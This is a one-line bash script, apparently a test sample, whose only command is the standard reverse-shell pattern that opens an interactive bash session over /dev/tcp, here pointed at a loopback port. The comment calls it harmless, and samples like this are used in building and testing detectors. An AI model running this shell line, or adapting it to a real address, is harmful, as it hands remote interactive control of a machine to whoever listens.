#!/bin/bash
# harmless test sample: an interactive shell to a loopback port
bash -i >& /dev/tcp/127.0.0.1/4449 0>&1
